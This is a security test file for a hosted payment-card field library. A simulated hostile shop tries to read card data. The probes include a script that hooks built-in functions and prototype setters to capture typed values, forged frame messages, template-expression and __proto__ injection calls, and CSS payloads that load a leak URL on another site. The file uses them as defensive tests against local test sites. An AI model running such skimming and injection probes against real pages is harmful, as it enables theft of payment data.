// A hostile shop: its scripts try to read what a payer types into the hosted fields. A control page with ordinary inputs
// shows that each probe finds a number that the page can read.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { DESKTOP } from "./browser.js";
import { FIELDS, OTHER_SITE, SHOP, startSites } from "./sites.js";

const NUMBER = "378282246310005";
const CODE = "7391";
const SECRET_TEXT = "Correct-Horse-51873";
// Middle digits: brand, first six and last four digits are no secrets.
const HIDDEN_DIGITS = "2246310";

// Runs in the page before every other script. It replaces what a script of the page could replace, and keeps every text
// that passes.
function installProbes() {
  const captured = (window.captured = []);
  const seen = new WeakSet();
  // The probes below replace functions that this one would call.
  const { ownKeys, getOwnPropertyDescriptor, apply } = Reflect;
  const { stringify } = JSON;
  window.readCaptured = () => stringify(captured);
  const keep = (value, depth = 0) => {
    if (typeof value === "string") captured[captured.length] = value;
    if (typeof value !== "object" || value === null || depth > 6 || seen.has(value)) return;
    seen.add(value);
    try {
      for (const key of ownKeys(value)) {
        const descriptor = getOwnPropertyDescriptor(value, key);
        if (descriptor && "value" in descriptor) keep(descriptor.value, depth + 1);
      }
    } catch {
      // A window of another origin.
    }
  };
  window.addEventListener("message", (event) => keep(event.data), true);
  const wrap = (owner, name) => {
    const original = owner[name];
    owner[name] = function (...values) {
      for (const value of values) keep(value);
      const result = apply(original, this, values);
      keep(result);
      return result;
    };
  };
  for (const name of ["push", "map", "forEach", "join", "concat", "slice"]) wrap(Array.prototype, name);
  for (const name of ["replace", "slice", "split", "trim"]) wrap(String.prototype, name);
  for (const name of ["parse", "stringify"]) wrap(JSON, name);
  for (const name of ["assign", "entries", "fromEntries", "keys"]) wrap(Object, name);
  wrap(MessagePort.prototype, "postMessage");
  wrap(window, "postMessage");
  wrap(window, "fetch");
  wrap(XMLHttpRequest.prototype, "send");
  wrap(Map.prototype, "set");
  const then = Promise.prototype.then;
  Promise.prototype.then = function (onValue, onError) {
    const keeping = typeof onValue === "function" ? (value) => (keep(value), onValue(value)) : onValue;
    return apply(then, this, [keeping, onError]);
  };
  // Without `value`: a getter of that name would break every property descriptor of the page.
  for (const name of ["number", "cvc", "data"]) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      set(value) {
        keep(value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
      get: () => undefined,
    });
  }
}

const HOSTED_PAGE = `<!DOCTYPE html><html lang="en"><title>Hostile shop</title><link rel="icon" href="data:,">
<div id="number"></div><div id="expiry"></div><div id="code"></div><div id="text"></div><div id="copy-of-number"></div>
<iframe id="child" title="child" src="/child"></iframe>
<script src="${FIELDS}/elements/client.js"></script>
<script type="module">
  window.events = [];
  const key = new URLSearchParams(location.search).get("key");
  const elements = (window.elements = await window.BasisTheoryElements.init(key));
  const fields = (window.fields = {
    number: elements.createElement("cardNumber", { targetId: "number", "aria-label": "Card number" }),
    expiry: elements.createElement("cardExpirationDate", { targetId: "expiry", "aria-label": "Expiration date" }),
    code: elements.createElement("cardVerificationCode", { targetId: "code", cardBrand: "american-express", "aria-label": "Security code" }),
    text: elements.createElement("text", { targetId: "text", "aria-label": "Text" }),
  });
  for (const field of Object.values(fields)) field.on("change", (event) => window.events.push({ ...event }));
  await Promise.all(Object.entries(fields).map(([id, field]) => field.mount("#" + id)));
  document.body.dataset.ready = "true";
</script>`;

const CONTROL_PAGE = `<!DOCTYPE html><html lang="en"><title>Ordinary shop</title><link rel="icon" href="data:,">
<input aria-label="Card number"><input aria-label="Security code"><input aria-label="Text">
<script type="module">
  window.sent = [];
  for (const input of document.querySelectorAll("input")) {
    input.addEventListener("input", () => window.sent.push(input.value));
  }
  document.body.dataset.ready = "true";
</script>`;

let sites;

before(async () => {
  const child = "<!DOCTYPE html><title>Child</title><link rel='icon' href='data:,'>";
  sites = await startSites({ "/hosted": HOSTED_PAGE, "/control": CONTROL_PAGE, "/child": child });
});

after(async () => assert.equal(await sites.stop(), 0));

function inHostileShop(name, use) {
  test(name, () =>
    sites.browser.withPage(`hostile shop ${name}`, DESKTOP, async (page) => {
      const requests = [];
      page.on("request", (it) => requests.push(it));
      await page.addInitScript(`if (location.origin === "${SHOP}") (${installProbes})();`);
      await page.goto(`${SHOP}/hosted?key=${sites.vault.keys.public}`);
      await page.locator("body[data-ready]").waitFor();
      await typeCard(page);
      await use(page, requests);
    }),
  );
}

const input = (page, id, label) => page.frameLocator(`#${id} iframe`).getByLabel(label, { exact: true });

async function typeCard(page) {
  await input(page, "number", "Card number").pressSequentially(NUMBER);
  await input(page, "expiry", "Expiration date").pressSequentially("1230");
  await input(page, "code", "Security code").pressSequentially(CODE);
  await input(page, "text", "Text").pressSequentially(SECRET_TEXT);
  await input(page, "text", "Text").blur();
}

// The strings of the page's own JavaScript heap. Frames of another site are in another process.
async function heapStrings(page) {
  const session = await page.context().newCDPSession(page);
  const chunks = [];
  session.on("HeapProfiler.addHeapSnapshotChunk", ({ chunk }) => chunks.push(chunk));
  await session.send("HeapProfiler.takeHeapSnapshot", { reportProgress: false });
  await session.detach();
  return JSON.parse(chunks.join("")).strings;
}

function findSecrets(strings) {
  const found = new Set();
  for (const text of strings) {
    if (text.replaceAll(" ", "").includes(HIDDEN_DIGITS)) found.add("number");
    if (text === CODE) found.add("code");
    if (text.includes(SECRET_TEXT)) found.add("text");
  }
  return [...found].sort();
}

const captured = async (page) => JSON.parse(await page.evaluate("window.readCaptured()"));
const createCard = (page) =>
  page.evaluate(() => {
    const { number, expiry, code } = window.fields;
    const data = { number, expiration_month: expiry.month(), expiration_year: expiry.year(), cvc: code };
    return window.elements.tokens.create({ type: "card", data, metadata: { note: "kept" } });
  });

test("probes find the values of ordinary inputs", () =>
  sites.browser.withPage("hostile shop control", DESKTOP, async (page) => {
    await page.addInitScript(`(${installProbes})();`);
    await page.goto(`${SHOP}/control`);
    await page.locator("body[data-ready]").waitFor();
    await page.getByLabel("Card number").pressSequentially(NUMBER);
    await page.getByLabel("Security code").pressSequentially(CODE);
    await page.getByLabel("Text").pressSequentially(SECRET_TEXT);
    assert.deepEqual(findSecrets(await heapStrings(page)), ["code", "number", "text"]);
    assert.deepEqual(findSecrets(await captured(page)), ["code", "number", "text"]);
  }));

inHostileShop("heap, messages and replaced functions of the page never contain a value", async (page) => {
  const token = await createCard(page);
  assert.equal(token.type, "card");
  await page.evaluate(() => window.elements.tokenize({ text: { type: "token", data: window.fields.text } }));
  assert.deepEqual(findSecrets(await captured(page)), []);
  assert.deepEqual(findSecrets(await heapStrings(page)), []);
  const events = JSON.stringify(await page.evaluate(() => window.events));
  assert.deepEqual(findSecrets([events]), []);
  // The vault has the card.
  const { body } = await sites.vault.send("private", "GET", `/tokens/${token.id}`);
  assert.deepEqual([body.data.number, body.data.cvc, body.data.expiration_month], [NUMBER, CODE, 12]);
  assert.equal(body.metadata.note, "kept");
});

inHostileShop("only frames of the vault send a value, to the vault", async (page, requests) => {
  await createCard(page);
  const sent = requests.filter((it) => (it.postData() ?? "").includes(HIDDEN_DIGITS) || it.url().includes(HIDDEN_DIGITS));
  assert.deepEqual(sent.map((it) => it.url()), [`${FIELDS}/api/tokens`]);
  assert.ok(sent[0].frame().url().startsWith(FIELDS));
  const hosts = new Set(requests.map((it) => new URL(it.url()).origin).filter((it) => it !== "null"));
  assert.deepEqual([...hosts].sort(), [SHOP, FIELDS]);
});

inHostileShop("frames are closed to the page", async (page) => {
  const results = await page.evaluate(() => {
    const attempts = [
      (frame) => frame.contentDocument && "document",
      (frame) => frame.contentWindow.document,
      (frame) => frame.contentWindow.scripField,
      (frame) => frame.contentWindow.scripController,
      (frame) => frame.contentWindow.eval("document.body.innerHTML"),
      (frame) => frame.contentWindow.getSelection(),
      (frame) => (frame.contentWindow.name = "changed"),
      (frame) => frame.contentWindow.frameElement,
    ];
    const results = [];
    for (const frame of document.querySelectorAll("iframe:not(#child)")) {
      for (const attempt of attempts) {
        try {
          results.push(String(attempt(frame)));
        } catch (error) {
          results.push(error.name);
        }
      }
    }
    return results;
  });
  assert.ok(results.length >= 32, `${results.length} attempts`);
  assert.deepEqual([...new Set(results)].sort(), ["SecurityError", "null"]);
});

inHostileShop("messages of another frame and of another origin are ignored", async (page) => {
  const number = input(page, "number", "Card number");
  const value = await number.inputValue();
  const forge = (origin) =>
    page.evaluate(
      async ({ origin }) => {
        // The page knows the name of its frames, and with it the instance and the element.
        const frame = document.querySelector("#number iframe");
        const [, nonce, element] = /^scrip-field-([0-9a-f]+)-(.+)$/.exec(frame.name);
        const sender = document.createElement("iframe");
        sender.src = `${origin}/child`;
        document.body.append(sender);
        await new Promise((done) => sender.addEventListener("load", done));
        return { nonce, element, name: frame.name };
      },
      { origin },
    );
  for (const origin of [SHOP, OTHER_SITE]) {
    const { nonce, element, name } = await forge(origin);
    const sender = page.frames().findLast((it) => it.url() === `${origin}/child`);
    await sender.evaluate(
      ({ nonce, element, name }) => {
        for (const type of ["clear", "init", "update", "set", "focus"]) {
          const options = { value: "4111111111111111", placeholder: "forged" };
          window.parent.frames[name].postMessage({ scrip: 1, nonce, element, type, options }, "*");
        }
      },
      { nonce, element, name },
    );
  }
  await page.waitForTimeout(200);
  assert.equal(await number.inputValue(), value);
  assert.notEqual(await number.getAttribute("placeholder"), "forged");
});

// Each call is sent to the controller as a raw message, because a hostile page does not need client.js.
inHostileShop("raw calls with a field outside of data or with expressions are refused", async (page, requests) => {
  const sendRaw = (calls) =>
    page.evaluate(async (calls) => {
      const controller = document.querySelector("iframe[name^=scrip-controller-]");
      const nonce = controller.name.slice("scrip-controller-".length);
      const ids = Object.fromEntries(
        ["number", "code", "text"].map((it) => [it, document.querySelector(`#${it} iframe`).name.split("-").slice(3).join("-")]),
      );
      const results = [];
      for (const [at, { operation, payload, paths, options = {} }] of calls.entries()) {
        const id = `raw-${at}`;
        const answer = new Promise((resolve) => {
          window.addEventListener("message", function listen({ data }) {
            if (data?.id !== id) return;
            window.removeEventListener("message", listen);
            resolve(data);
          });
        });
        const elements = paths.map(({ path, field }) => ({ path, element: ids[field] }));
        const message = { scrip: 1, nonce, element: "controller", type: "call", id, operation, payload, elements, options };
        controller.contentWindow.postMessage(message, "*");
        const { type, error, value } = await Promise.race([answer, new Promise((done) => setTimeout(done, 5000, { type: "silence" }))]);
        results.push({ type, name: error?.name, message: error?.message, value });
      }
      return results;
    }, calls);
  const number = (path) => [{ path, field: "number" }];
  const text = (path) => [{ path, field: "text" }];
  const refused = [
    { operation: "tokens.create", payload: { type: "token", data: "x", metadata: { a: null } }, paths: text(["metadata", "a"]) },
    { operation: "tokens.create", payload: { type: "token", data: "x", id: null }, paths: text(["id"]) },
    { operation: "tokens.create", payload: { type: "token", data: null, mask: "{{ data }}" }, paths: text(["data"]) },
    { operation: "tokens.create", payload: { type: "token", data: null, mask: null }, paths: [...text(["data"]), ...text(["mask"])] },
    { operation: "tokens.create", payload: { type: "token", data: null, searchIndexes: ["{{ data }}"] }, paths: text(["data"]) },
    { operation: "tokens.create", payload: { type: "token", data: null, search_indexes: ["{{ data }}"] }, paths: text(["data"]) },
    { operation: "tokens.create", payload: { type: "token", data: null, fingerprintExpression: "{{ data }}" }, paths: text(["data"]) },
    { operation: "tokens.create", payload: { type: "token", data: null, fingerprint_expression: "{{ data }}" }, paths: text(["data"]) },
    { operation: "tokens.create", payload: { type: "token", data: null, id: "{{ data }}" }, paths: text(["data"]) },
    { operation: "tokens.create", payload: { type: "token", data: {} }, paths: text(["data", "__proto__", "x"]) },
    { operation: "tokens.create", payload: { type: "token", data: {} }, paths: text(["__proto__", "data"]) },
    { operation: "tokens.create", payload: [], paths: text([]) },
    { operation: "tokenIntents.create", payload: { type: null, data: "x" }, paths: text(["type"]) },
    { operation: "tokenize", payload: { a: { type: "token", data: null, mask: "{{ data }}" } }, paths: text(["a", "data"]) },
    { operation: "tokenize", payload: { a: { type: "token", data: null, id: "x{{ data }}" } }, paths: text(["a", "data"]) },
    { operation: "sessions.create", payload: null, paths: text(["data"]) },
    { operation: "tokens.retrieve", payload: null, paths: text(["id"]) },
    { operation: "constructor", payload: {}, paths: [] },
    { operation: "__proto__", payload: {}, paths: [] },
    { operation: "client.post", payload: { url: `${OTHER_SITE}/x`, body: null }, paths: text(["body"]) },
  ];
  const before = requests.length;
  const results = await sendRaw(refused);
  for (const [at, { type, message }] of results.entries()) {
    assert.ok(["failure", "silence"].includes(type), `call ${at} of ${JSON.stringify(refused[at])}: ${type} ${message}`);
  }
  const sent = requests.slice(before).filter((it) => it.url().includes("/api/"));
  assert.deepEqual(sent.map((it) => it.url()), []);
  // The same fields are accepted inside `data`, and the answer has no value.
  const accepted = [
    { operation: "tokens.create", payload: { type: "token", data: { a: null } }, paths: text(["data", "a"]) },
    { operation: "tokens.create", payload: { type: "card_number", data: null }, paths: number(["data"]) },
    { operation: "tokenize", payload: { a: null }, paths: text(["a"]) },
  ];
  for (const { type, message, value } of await sendRaw(accepted)) {
    assert.equal(type, "answer", message);
    assert.deepEqual(findSecrets([JSON.stringify(value)]), []);
  }
});

inHostileShop("copy of a field into a field with a rule tells nothing about the value", async (page) => {
  const events = await page.evaluate(async () => {
    const events = [];
    for (const [at, options] of [{ validation: /^Correct/ }, { validation: /^Wrong/ }, { mask: [/C/, /o/] }, { maxLength: 3 }].entries()) {
      const place = document.createElement("div");
      document.body.append(place);
      const element = window.elements.createElement("text", { targetId: `probe${at}`, ...options });
      const own = [];
      element.on("change", (event) => own.push({ ...event }));
      await element.mount(place);
      element.setValueRef(window.fields.text);
      element.validate();
      element.focus();
      element.blur();
      await new Promise((done) => setTimeout(done, 300));
      events.push(JSON.stringify([own.at(-1), element.metadata], (name, value) => (name === "targetId" ? undefined : value)));
    }
    return events;
  });
  assert.equal(new Set(events.slice(0, 2)).size, 1, events.join("\n"));
  assert.deepEqual(findSecrets(events), []);
});

inHostileShop("styles load nothing and disclose nothing", async (page, requests) => {
  const before = requests.length;
  await page.evaluate(async (other) => {
    const url = `url(${other}/leak)`;
    const hostile = {
      backgroundImage: url,
      background: url,
      fontFamily: `x; background: ${url}`,
      color: `red; background-image: ${url}`,
      padding: `1px } input[value^="3"] { background: ${url} } x {`,
      textShadow: `0 0 ${url}`,
      content: "attr(value)",
      position: "fixed",
    };
    await window.fields.number.update({ style: { base: hostile, container: hostile, invalid: { ":hover": hostile }, fonts: [`${other}/font`] } });
    await window.fields.text.update({ style: { base: { "::placeholder": hostile, 'x } @import "': hostile } } });
  }, OTHER_SITE);
  await page.locator("#number iframe").hover();
  await page.waitForTimeout(300);
  assert.deepEqual(requests.slice(before).map((it) => it.url()), []);
  const style = await input(page, "number", "Card number").evaluate((it) => {
    const { backgroundImage, position, fontFamily } = getComputedStyle(it);
    return { backgroundImage, position, fontFamily };
  });
  assert.equal(style.backgroundImage, "none");
  assert.notEqual(style.position, "fixed");
});

inHostileShop("frame that is opened as a page or by a stranger does nothing", async (page) => {
  const url = await page.locator("#number iframe").getAttribute("src");
  const [popup] = await Promise.all([
    page.waitForEvent("popup"),
    page.evaluate((url) => {
      window.popup = window.open(url);
    }, url),
  ]);
  await popup.waitForLoadState();
  const received = await page.evaluate(async (url) => {
    const { hash } = new URL(url);
    const values = new URLSearchParams(hash.slice(1));
    const received = [];
    window.addEventListener("message", (event) => event.source === window.popup && received.push(event.data));
    const message = { scrip: 1, nonce: values.get("nonce"), element: values.get("element"), type: "init", options: { value: "4" } };
    window.popup.postMessage(message, "*");
    await new Promise((done) => setTimeout(done, 300));
    return received;
  }, url);
  assert.deepEqual(received.filter((it) => it.type !== "loaded"), []);
});

test("application with origins is closed to pages of other sites", () =>
  sites.browser.withPage("hostile shop origins", DESKTOP, async (page, faults) => {
    const { body } = await sites.vault.send("management", "POST", "/applications", {
      name: "Shop only",
      type: "public",
      permissions: ["token:create"],
      origins: [SHOP],
    });
    await page.goto(`${SHOP}/hosted?key=${body.key}`);
    await page.locator("body[data-ready]").waitFor();
    await input(page, "text", "Text").fill("value");
    const created = await page.evaluate(() => window.elements.tokens.create({ type: "token", data: window.fields.text }));
    assert.match(created.id, /^[0-9a-f-]{36}$/);
    await page.goto(`${OTHER_SITE}/hosted?key=${body.key}`);
    await page.waitForTimeout(1000);
    assert.equal(await page.locator("body[data-ready]").count(), 0);
    // The stranger calls the API itself.
    const status = await page.evaluate(
      async ({ fields, key }) => {
        const headers = { "BT-API-KEY": key, "Content-Type": "application/json" };
        const body = JSON.stringify({ type: "token", data: "x" });
        return (await fetch(`${fields}/api/tokens`, { method: "POST", headers, body })).status;
      },
      { fields: FIELDS, key: body.key },
    );
    assert.equal(status, 403);
    // The browser reports the frames that it refused.
    assert.ok(faults.every((it) => it.includes("frame-ancestors") || it.includes("Content Security Policy")), faults.join("\n"));
    faults.length = 0;
  }));
